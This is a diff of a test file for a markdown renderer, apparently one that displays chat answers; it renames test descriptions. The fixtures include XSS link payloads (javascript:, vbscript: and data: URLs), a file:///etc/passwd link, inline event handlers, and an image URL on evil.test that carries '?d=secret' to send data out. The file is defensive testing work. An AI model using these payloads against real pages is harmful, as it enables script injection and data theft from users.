@@ -9,7 +9,7 @@ beforeAll(() => loadAllTexts('EN'));
 
 describe('an answer', () => {
   test.each([
-    ['headings, below those of the page', '# One\n\n#### Four', ['<h2>One</h2>', '<h5>Four</h5>']],
+    ['headings below those of the page', '# One\n\n#### Four', ['<h2>One</h2>', '<h5>Four</h5>']],
     [
       'emphasis',
       '**bold** *soft* ~~gone~~ `code`',
@@ -27,18 +27,18 @@ describe('an answer', () => {
       ['<th scope="col">a</th>', '<td data-align="right">2</td>'],
     ],
     [
-      'code as it is',
+      'code verbatim',
       '```html\n<b>&amp;</b>\n```',
       ['<span>html</span>', '&lt;b&gt;&amp;amp;&lt;/b&gt;'],
     ],
     ['quotes and rules', '> said\n\n---', ['<blockquote><p>said</p></blockquote>', '<hr/>']],
     ['line breaks', 'one  \ntwo<br>three', ['one<br/>two<br/>three']],
     [
-      'entities as their characters',
+      'entities as characters',
       'Q&amp;A &lt;b&gt; &#8364;5 &unknown;',
       ['Q&amp;A &lt;b&gt; €5 &amp;unknown;'],
     ],
-  ])('shows %s', (_name, text, parts) => {
+  ])('renders %s', (_name, text, parts) => {
     for (const part of parts) expect(html(text)).toContain(part);
   });
 
@@ -49,7 +49,7 @@ describe('an answer', () => {
     },
   );
 
-  test('links open beside the page and say where they lead', () => {
+  test('opens links in a new tab and shows their host', () => {
     expect(html('[our page](https://example.test:8443/a?b=1&amp;c=2)')).toContain(
       '<a href="https://example.test:8443/a?b=1&amp;c=2" title="example.test:8443" target="_blank" rel="noopener noreferrer">our page</a>',
     );
@@ -64,15 +64,15 @@ describe('an answer', () => {
     ['a script hidden by entities', '[x](javascript&#58;alert(1))'],
     ['a script hidden by named entities', '[x](java&Tab;script&colon;alert(1))'],
     ['a script after a control character', '[x](&#1;javascript:alert(1))'],
-    ['a script by reference', '[x][1]\n\n[1]: javascript:alert(1)'],
+    ['a script in a link definition', '[x][1]\n\n[1]: javascript:alert(1)'],
     ['a script in angle brackets', '<javascript:alert(1)>'],
-    ['data', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
+    ['a data URL', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
     ['vbscript', '[x](vbscript:msgbox(1))'],
-    ['a file', '[x](file:///etc/passwd)'],
+    ['a file URL', '[x](file:///etc/passwd)'],
     ['a path of this site', '[x](/api/auth/sign-out)'],
     ['a host without a protocol', '[x](//evil.test/)'],
     ['an image that is a script', '![x](javascript:alert(1))'],
-  ])('%s is no link', (_name, text) => {
+  ])('does not link %s', (_name, text) => {
     expect(html(text)).not.toContain('<a ');
   });
 
@@ -84,13 +84,13 @@ describe('an answer', () => {
     '<style>*{display:none}</style>',
     'text <b onmouseover=alert(1)>bold</b>',
     '<!-- <img src=x> -->',
-  ])('%s is shown as it was written', (text) => {
+  ])('shows %s as text', (text) => {
     const shown = html(text);
     expect(shown.replaceAll(/<\/?(?:div|p)\b[^>]*>/g, '')).not.toContain('<');
     expect(textOf(shown)).toBe(text);
   });
 
-  test('an image is never loaded, but can be opened', () => {
+  test('shows an image as a link and never loads it', () => {
     const shown = html(
       '![chart](https://evil.test/?d=secret) and [![x](https://evil.test/i)](https://b.test)',
     );
@@ -100,7 +100,7 @@ describe('an answer', () => {
     );
   });
 
-  test('an image without words shows its address', () => {
+  test('shows the address of an image without alternative text', () => {
     expect(html('![](https://evil.test/i.png)')).toContain('>https://evil.test/i.png</a>');
   });
 });
